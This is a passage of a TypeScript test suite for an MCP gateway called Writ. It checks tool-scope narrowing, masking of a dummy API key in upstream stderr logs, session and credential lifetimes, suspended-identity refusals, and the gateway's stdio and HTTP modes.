      const reload = await h.writ.reloadPolicy('test');
      assert.ok(reload.ok && reload.changed, JSON.stringify(reload));
      await eventually(() => changes > 0, 'notifications/tools/list_changed after the narrowing');
      const now = names((await client.listTools()).tools);
      assert.ok(!now.includes('tickets__add_comment') && now.includes('tickets__get_ticket'), now.join(','));
      const refused = await client.callTool({ name: 'tickets__add_comment', arguments: { ticketId: 'T-1042', text: 'x' } });
      assert.equal(structured(refused).code, 'ERR_SCOPE_NOT_GRANTED');
    } finally {
      await client.close();
    }
  });
});

describe('an upstream that prints its secret on stderr', () => {
  test('the gateway logs its stderr with the secret masked, and withholds a line holding half of it', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'writ-leaky-'));
    const lines: string[] = [];
    const logger = pino({ level: 'debug' }, { write: (line: string) => void lines.push(line) });
    const key = 'sk_live_0123456789abcdefghijKLMNOP';
    const config = loadConfig({
      configFile: writeConfig(dir, { gateway: { upstreams: [{ name: 'leaky', command: process.execPath, args: [join(PACKAGE_ROOT, 'test', 'fixtures', 'leaky-mcp-server.mjs')], inject: [{ secret: 'leaky-key', env: 'LEAKY_KEY' }] }] } }),
      env: {},
      flags: { dataDir: dir },
    });
    const vault = { reveal: async () => key } as unknown as Parameters<typeof createUpstreamPool>[0]['vault'];
    const pool = createUpstreamPool({ config, vault, logger });
    try {
      const [listing] = await pool.listings();
      assert.deepEqual(listing?.tools?.map((t) => t.name), ['noop']);
      await eventually(() => lines.some((l) => l.includes('an ordinary line')), 'the stderr lines to be logged');
      const logged = lines.join('\n');
      assert.ok(!logged.includes(key), 'never the whole key');
      assert.ok(!logged.includes(key.slice(0, 16)) && !logged.includes(key.slice(16)), 'never a half of it');
      assert.match(logged, /key=\[secret\] \(oops\)/);
      assert.match(logged, /line withheld/);
    } finally {
      await pool.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

function writeConfig(dir: string, yaml: Record<string, unknown>): string {
  const file = join(dir, 'writ.yaml');
  writeFileSync(file, JSON.stringify(yaml));
  return file;
}

describe('MCP gateway sessions and their credentials', () => {
  let h: Harness;
  const clock = createManualClock();
  before(async () => {
    h = await startHarness({ clock, config: { gateway: { upstreams: [ticketsUpstream], maxSessionsPerIdentity: 2 } } });
    await h.writ.vault.put('tickets-api-key', API_KEY, { id: 'test' });
    await h.registerAgent();
  });
  after(() => h.close());

  test('a session never outlives the credential it is used with; a fresh token of the same identity carries on', async () => {
    let bearer = await h.identityToken();
    const client = new Client({ name: 'x', version: '1' });
    const transport = new StreamableHTTPClientTransport(new URL(`${h.url}/mcp`), { fetch: (url, init) => fetch(url, { ...init, headers: { ...Object.fromEntries(new Headers(init?.headers).entries()), authorization: `Bearer ${bearer}` } }) });
    await client.connect(transport);
    try {
      assert.deepEqual(names((await client.listTools()).tools), ['request_access']);
      clock.advance(10 * 60_000);
      await assert.rejects(client.listTools(), /401|invalid_token/i, 'the identity token expired');
      bearer = await h.identityToken();
      assert.deepEqual(names((await client.listTools()).tools), ['request_access'], 'the same session, with a fresh token');
    } finally {
      await client.close();
    }
  });

  test('one identity holds at most its share of sessions: its least recently used makes way', async () => {
    const clients: Client[] = [];
    try {
      for (let i = 0; i < 3; i++) clients.push(await httpClient(h, await h.identityToken()));
      await assert.rejects(clients[0]!.listTools(), /404|not found|Session/i, 'the oldest was closed');
      assert.deepEqual(names((await clients[2]!.listTools()).tools), ['request_access']);
      assert.ok((await openSessions(h)) <= 2);
    } finally {
      for (const c of clients) await c.close().catch(() => undefined);
    }
  });

  test('a suspended identity asks for nothing on a session it opened before', async () => {
    const client = await httpClient(h, await h.identityToken());
    try {
      await h.writ.changeIdentityState(AGENT, 'suspend', { id: 'test' });
      const asked = await client.callTool({ name: 'request_access', arguments: { purpose: 'x', intent: 'customer-support', tools: ['tickets__get_ticket'] } });
      assert.equal(structured(asked).code, 'ERR_IDENTITY_INACTIVE');
    } finally {
      await h.writ.changeIdentityState(AGENT, 'reactivate', { id: 'test' });
      await client.close();
    }
  });
});

async function openSessions(h: Harness): Promise<number> {
  const metrics = await h.get('/healthz');
  return metrics.body.mcpSessions as number;
}

describe('a published MCP server from npm as a stdio upstream (@modelcontextprotocol/server-everything)', () => {
  let h: Harness;
  before(async () => {
    const catalog = `${readFileSync(join(EXAMPLE_POLICIES, 'resources.yaml'), 'utf8')}\n  - pattern: "tool:everything/*"\n    sensitivity: internal\n    description: The MCP reference server's demo tools\n`;
    const dir = policyFolder({
      'resources.yaml': catalog,
      'everything.cedar': '@id("agents-use-demo-tools")\npermit (principal is Writ::Agent, action, resource is Writ::Tool)\nwhen { resource.kind == "tool" && context.intent == "testing" };\n',
    });
    h = await startHarness({ config: { policy: { dir }, gateway: { upstreams: [{ name: 'everything', command: process.execPath, args: [EVERYTHING_SERVER, 'stdio'] }] } } });
    await h.registerAgent();
  });
  after(() => h.close());

  test('its tools are offered under their annotations\' tiers, granted by policy, and called through Writ', async () => {
    const client = await httpClient(h, await h.identityToken());
    try {
      const offered = ((await client.listTools()).tools[0]?.inputSchema as any).properties.tools.items.enum as string[];
      assert.ok(offered.includes('everything__echo'), offered.join(','));
      const granted = await client.callTool({ name: 'request_access', arguments: { purpose: 'Try the reference server', intent: 'testing', tools: ['everything__echo', 'everything__get-sum'] } });
      assert.equal(structured(granted).status, 'granted', textOf(granted));
      const status = structured(await client.callTool({ name: 'task_status', arguments: {} }));
      assert.ok(status.scopes.includes('read tool:everything/echo'), 'echo says it is read-only and closed-world: read');
      const echoed = await client.callTool({ name: 'everything__echo', arguments: { message: 'through writ' } });
      assert.equal(textOf(echoed), 'Echo: through writ');
      const sum = await client.callTool({ name: 'everything__get-sum', arguments: { a: 2, b: 3 } });
      assert.match(textOf(sum), /5/);
    } finally {
      await client.close();
    }
  });
});

describe('writ mcp: the gateway on stdio', () => {
  let h: Harness;
  before(async () => {
    h = await startHarness({ config: { gateway: { upstreams: [ticketsUpstream] } } });
    await h.writ.vault.put('tickets-api-key', API_KEY, { id: 'test' });
    await h.registerAgent();
  });
  after(() => h.close());

  test('an MCP client starts `writ mcp` as a command: it asks for access, calls, and completes, all checked', async () => {
    const transport = new StdioClientTransport({
      command: process.execPath,
      args: [join(PACKAGE_ROOT, 'bin', 'writ.js'), 'mcp', '--dev', '--config', join(h.dataDir, 'writ.yaml'), '--data-dir', h.dataDir],
      env: { WRIT_TOKEN: await h.identityToken() },
      stderr: 'pipe',
    });
    const client = new Client({ name: 'stdio-agent', version: '1.0.0' });
    await client.connect(transport);
    try {
      assert.deepEqual(names((await client.listTools()).tools), ['request_access']);
      const granted = await client.callTool({ name: 'request_access', arguments: { purpose: 'Answer ticket T-1042', intent: 'customer-support', tools: ['tickets__get_ticket'] } });
      assert.equal(structured(granted).status, 'granted', textOf(granted));
      const ticket = await client.callTool({ name: 'tickets__get_ticket', arguments: { ticketId: 'T-1042' } });
      assert.equal(JSON.parse(textOf(ticket)).id, 'T-1042');
      const refused = await client.callTool({ name: 'tickets__add_comment', arguments: { ticketId: 'T-1042', text: 'x' } });
      assert.equal(structured(refused).code, 'ERR_SCOPE_NOT_GRANTED');
      assert.equal(structured(await client.callTool({ name: 'complete_task', arguments: {} })).state, 'completed');
    } finally {
      await client.close();
    }
    const records = await h.auditRecords();
    assert.ok(records.some((r) => r.type === 'tool.call' && (r as any).data.tool === 'get_ticket' && (r as any).data.status === 'ok'), 'the stdio process wrote to the same chain');
  });

  test('on a laptop, writ mcp --dev --identity mints its own identity token; its task ends with the process', async () => {
    let taskId = '';
    const client = new Client({ name: 'stdio-agent', version: '1.0.0' });
    await client.connect(
      new StdioClientTransport({
        command: process.execPath,
        args: [join(PACKAGE_ROOT, 'bin', 'writ.js'), 'mcp', '--dev', '--identity', AGENT, '--config', join(h.dataDir, 'writ.yaml'), '--data-dir', h.dataDir],
        stderr: 'pipe',
      }),
    );
    try {
      assert.deepEqual(names((await client.listTools()).tools), ['request_access']);
      const granted = await client.callTool({ name: 'request_access', arguments: { purpose: 'Read T-1042', intent: 'customer-support', tools: ['tickets__get_ticket'] } });
      assert.equal(structured(granted).status, 'granted', textOf(granted));
      taskId = structured(granted).taskId as string;
    } finally {
      await client.close();
    }
    await eventually(async () => (await h.writ.store.getTask(taskId))?.state === 'revoked', 'the task to end with the stdio connection');
    const refused = await runWrit(['mcp', '--identity', AGENT, '--config', join(h.dataDir, 'writ.yaml'), '--data-dir', h.dataDir], h.dataDir);
    assert.equal(refused.code, 2, 'without --dev, --identity is refused');
  });

  test('writ gateway serves /mcp alone: no REST API beside it, the same 401 challenge', async () => {
    const gateway = await startWrit(['gateway', '--config', join(h.dataDir, 'writ.yaml'), '--data-dir', h.dataDir, '--port', '0']);
    const url = gateway.url;
    try {
      assert.equal((await fetch(`${url}/healthz`)).status, 200);
      assert.equal((await fetch(`${url}/v1/identities`)).status, 404, 'the REST API is not served');
      const challenge = await fetch(`${url}/mcp`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' });
      assert.equal(challenge.status, 401);
      assert.match(challenge.headers.get('www-authenticate') ?? '', /resource_metadata=/);
    } finally {
      await gateway.stop();
    }
  });

  test('without a credential it refuses to start', async () => {
    const result = await runWrit(['mcp', '--config', join(h.dataDir, 'writ.yaml'), '--data-dir', h.dataDir], h.dataDir);
    assert.equal(result.code, 2);
    assert.match(result.stderr, /WRIT_TOKEN/);
  });
});
